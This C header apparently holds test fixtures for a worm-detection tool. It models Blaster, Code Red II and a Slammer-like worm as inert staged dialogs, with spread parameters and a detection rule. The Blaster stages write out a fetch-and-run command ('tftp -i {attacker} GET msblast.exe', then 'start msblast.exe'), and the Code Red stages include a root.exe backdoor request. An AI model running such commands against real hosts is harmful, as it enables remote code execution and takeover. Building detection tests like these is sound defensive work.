/* SPDX-License-Identifier: GPL-3.0-or-later */
#pragma once
/*
 * Two worms as a loader would give them, for the tests of this room, which may not load. The
 * payloads are inert: what the rules look for, and filler.
 */
#include "advisory/advisory.h"

#define TEXT(text) ((char *)(uintptr_t)(text))

/* 40 bytes without 5C behind the pattern; the decoys have one inside the window of 32. */
#define BLASTER_HEAD "|05 00 0B 03 10 00 00 00 48 00 00 00 7F 00 00 00|inert marker of a drill "
#define BLASTER_HIT  BLASTER_HEAD "|00 5C 00 5C|AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
#define BLASTER_NEAR BLASTER_HEAD "|00 5C 00 5C|AAAAAAAAAAAAAAA|5C|BBBBBBBBBBBBBBBBBBBBBBBB"

static struct ww_dialog blaster_exploit[] = {{{1, 1}, WW_ROLE_ATTACKER, TEXT(BLASTER_HIT)}};
static struct ww_dialog blaster_decoys[] = {{{2, 1}, WW_ROLE_ATTACKER, TEXT(BLASTER_NEAR)}};
static struct ww_dialog blaster_shell[] = {
	{{3, 1}, WW_ROLE_VICTIM, TEXT("Microsoft Windows 2000 [Version 5.00.2195]|0D 0A|")},
	{{4, 1}, WW_ROLE_VICTIM, TEXT("C\\:\\\\WINNT\\\\system32>")},
	{{5, 1}, WW_ROLE_ATTACKER, TEXT("tftp -i {attacker} GET msblast.exe|0A|")},
	{{6, 1}, WW_ROLE_ATTACKER, TEXT("start msblast.exe|0A|")},
	{{7, 1}, WW_ROLE_ATTACKER, TEXT("msblast.exe|0A|")},
};
static uint32_t blaster_sids[] = {1000001};
static struct ww_rules_text blaster_rules[] = {{
	.name = TEXT("blaster.rules"),
	.text = TEXT("alert tcp any any -> any 135 (content:\"|00 5C 00 5C|\"; content:!\"|5C|\"; "
		     "within:32;)"),
}};
static struct ww_stage blaster_stages[] = {
	{
		.id = TEXT("scan"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_CONTACT,
		.port = {WW_PROTO_TCP, 135, 135},
		.sets = WW_HOST_TARGETED,
	},
	{
		.id = TEXT("exploit"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_RULE,
		.sids = blaster_sids,
		.n_sids = 1,
		.sets = WW_HOST_ATTACKED,
		.dialog = blaster_exploit,
		.n_dialog = WW_N(blaster_exploit),
		.decoys = blaster_decoys,
		.n_decoys = WW_N(blaster_decoys),
	},
	{
		.id = TEXT("shell"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_TEXT,
		.port = {WW_PROTO_TCP, 4444, 4444},
		.sets = WW_HOST_TAKEN_OVER,
		.dialog = blaster_shell,
		.n_dialog = WW_N(blaster_shell),
	},
	{
		.id = TEXT("fetch"),
		.from = WW_ROLE_VICTIM,
		.event = WW_STAGE_TEXT,
		.port = {WW_PROTO_UDP, 69, 69},
		.sets = WW_HOST_FETCHED,
		.transfer_file = TEXT("msblast.exe"),
		.transfer_bytes = 6176,
	},
	{
		.id = TEXT("spread"),
		.from = WW_ROLE_VICTIM,
		.event = WW_STAGE_SCAN,
		.port = {WW_PROTO_TCP, 135, 135},
		.sets = WW_HOST_SPREADING,
	},
};

static inline struct ww_advisory blaster_advisory(void)
{
	return (struct ww_advisory){
		.id = TEXT("blaster"),
		.rules = blaster_rules,
		.n_rules = WW_N(blaster_rules),
		.stages = blaster_stages,
		.n_stages = WW_N(blaster_stages),
		.propagation = {.is_given = true,
			.addresses = {.uniform = 0.6,
				.same_16 = 0.4,
				.sequential = true,
				.is_given = true},
			.port = {WW_PROTO_TCP, 135, 135},
			.threads = 20,
			.rate_per_s = 11},
	};
}

static struct ww_dialog code_red_request[] = {
	{{1, 1}, WW_ROLE_ATTACKER,
		TEXT("GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX HTTP/1.0|0D 0A 0D "
		     "0A|")},
};
static struct ww_dialog code_red_root[] = {
	{{2, 1}, WW_ROLE_ATTACKER, TEXT("GET /scripts/root.exe?/c+dir HTTP/1.0|0D 0A 0D 0A|")},
	{{3, 1}, WW_ROLE_VICTIM, TEXT("HTTP/1.0 200 OK|0D 0A 0D 0A|")},
};
static struct ww_dialog code_red_decoys[] = {
	{{4, 1}, WW_ROLE_ATTACKER, TEXT("GET /default.ida HTTP/1.0|0D 0A 0D 0A|")},
};
static struct ww_stage code_red_stages[] = {
	{
		.id = TEXT("scan"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_CONTACT,
		.port = {WW_PROTO_TCP, 80, 80},
		.sets = WW_HOST_TARGETED,
	},
	{
		.id = TEXT("exploit"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_RULE,
		.sets = WW_HOST_ATTACKED,
		.dialog = code_red_request,
		.n_dialog = WW_N(code_red_request),
		.decoys = code_red_decoys,
		.n_decoys = WW_N(code_red_decoys),
	},
	{
		.id = TEXT("spread"),
		.from = WW_ROLE_VICTIM,
		.event = WW_STAGE_SCAN,
		.port = {WW_PROTO_TCP, 80, 80},
		.sets = WW_HOST_SPREADING,
	},
	{
		.id = TEXT("back-door"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_TEXT,
		.port = {WW_PROTO_TCP, 80, 80},
		.sets = WW_HOST_TAKEN_OVER,
		.dialog = code_red_root,
		.n_dialog = WW_N(code_red_root),
	},
};

static inline struct ww_advisory code_red_advisory(void)
{
	return (struct ww_advisory){
		.id = TEXT("code-red-ii"),
		.stages = code_red_stages,
		.n_stages = WW_N(code_red_stages),
		.propagation = {.is_given = true,
			.addresses = {.uniform = 0.125,
				.same_8 = 0.5,
				.same_16 = 0.375,
				.is_given = true},
			.port = {WW_PROTO_TCP, 80, 80},
			.threads = 300,
			.rate_per_s = 11},
	};
}

/* A worm that is one datagram, and picks any address, as Slammer did. */
static struct ww_dialog datagram_line[] = {
	{{1, 1}, WW_ROLE_ATTACKER, TEXT("|04|inert marker of a drill")},
};
static struct ww_stage datagram_stages[] = {
	{
		.id = TEXT("exploit"),
		.from = WW_ROLE_ATTACKER,
		.event = WW_STAGE_RULE,
		.port = {WW_PROTO_UDP, 1434, 1434},
		.sets = WW_HOST_ATTACKED,
		.dialog = datagram_line,
		.n_dialog = WW_N(datagram_line),
	},
	{
		.id = TEXT("spread"),
		.from = WW_ROLE_VICTIM,
		.event = WW_STAGE_SCAN,
		.port = {WW_PROTO_UDP, 1434, 1434},
		.sets = WW_HOST_SPREADING,
	},
};

static inline struct ww_advisory datagram_advisory(void)
{
	return (struct ww_advisory){
		.id = TEXT("datagram"),
		.stages = datagram_stages,
		.n_stages = WW_N(datagram_stages),
		.propagation = {.is_given = true,
			.addresses = {.uniform = 1, .is_given = true},
			.port = {WW_PROTO_UDP, 1434, 1434},
			.rate_per_s = 50},
	};
}
